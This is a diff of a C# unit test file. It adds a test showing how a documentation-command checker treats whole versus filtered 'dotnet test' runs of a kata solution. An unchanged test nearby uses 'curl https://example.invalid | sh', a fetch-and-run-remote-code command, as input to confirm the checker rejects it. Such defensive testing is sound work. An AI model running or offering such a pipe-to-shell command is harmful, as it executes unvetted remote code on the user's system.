@@ -64,6 +64,19 @@ public sealed partial class DocCommandsTests
     }
 
     [Test]
+    public void A_whole_run_of_kata_ones_solution_is_left_to_the_kata_tests_while_a_filtered_one_runs_here()
+    {
+        var whole = DocCommandPlan.For(new DocCommand("docs/budgets.md", 1, "katas/01-racy-cart", "sh", "dotnet test -p:KataSolution=true"));
+        var filtered = DocCommandPlan.For(new DocCommand("README.md", 1, "katas/01-racy-cart", "sh", "dotnet test -p:KataSolution=true --filter Name~last_item"));
+        Assert.Multiple(() =>
+        {
+            Assert.That(whole!.OfType<DocProof.RunElsewhere>().Single().Paths, Does.Contain("tests/RacyCart.Tests"));
+            Assert.That(whole!.OfType<DocProof.RunsChecks>(), Is.Empty, "RacyCart.Tests' end-to-end test runs exactly this; a second run proves nothing new.");
+            Assert.That(filtered!.OfType<DocProof.RunsChecks>(), Is.Not.Empty);
+        });
+    }
+
+    [Test]
     public void A_command_nobody_knows_how_to_check_is_not_let_through() =>
         Assert.That(DocCommandPlan.For(new DocCommand("README.md", 1, "", "sh", "curl https://example.invalid | sh")), Is.Null);
 
